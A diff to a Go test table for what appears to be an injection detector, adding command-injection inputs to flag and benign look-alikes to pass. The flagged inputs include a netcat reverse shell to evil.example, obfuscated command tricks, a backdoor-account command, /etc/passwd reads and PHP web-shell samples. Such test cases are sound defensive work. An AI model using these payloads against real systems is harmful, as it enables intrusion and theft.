@@ -45,6 +45,8 @@ var checkCases = []struct {
 		"127.0.0.1;id", "127.0.0.1|id", "1 || pwd", ";id", "report.pdf|id", "; sleep 10 ;", "||sleep 10||", "x & net user hacker P@ss /add", "1; sleep 10", "a.txt|sleep 10", "x;/bin/sh", "x & net user",
 		"x | nc evil.example 4444 -e /bin/sh", "x;w'h'o'am'i", "x;wh$@oami", `x;who\ami`, "x;/???/?at /???/p??swd",
 		"127.0.0.1\nid", "1;ping 10.0.0.1", "127.0.0.1`id`", "x=`whoami`", "see `curl -L http://x.example` now",
+		"x;{id,}", "x;{curl,evil.example}", "x;wh``oami", "x;wh$()oami", "a;$0 -c id", "x;exec id", "x;eval id",
+		"127.0.0.1|sh", "127.0.0.1\r\nid",
 	}, []string{
 		"Gifts & more", "Salt & pepper & more", "Name | Date | Time", "Work hard; sleep 8 hours a night", "Name|ID|Who",
 		"Notes; I'd say yes", "Ask; don't wait", "Rock | Paper | Scissors", "it's 10; sleep tight", "see /api/v1/?page=2; ok",
@@ -60,6 +62,8 @@ var checkCases = []struct {
 		"The Senora found herself a heroine; more than that", "size=XL; color=red", "sort by date | filter",
 		"Q&A: set the table", "We ship; cat food included", "1/2 cup; time 5 min", "price $(5)",
 		"curl/8.5.0", "python-requests/2.31.0", "The parameter 5 is&|.", "url=/?usr=subject;-",
+		"a;{x,y}", "see; {id, name} fields", "set; {ls, dir} are commands", "Run it; eval results later",
+		"Cost: $0 shipping", "It was $0; free", "line one\r\nid card attached",
 	}, false},
 	{KindCodeInjection, []string{
 		"<?php system($_GET['c']); ?>", "$_GET['x']", "system('id')", "eval(base64_decode('ZWNobyAx'))",
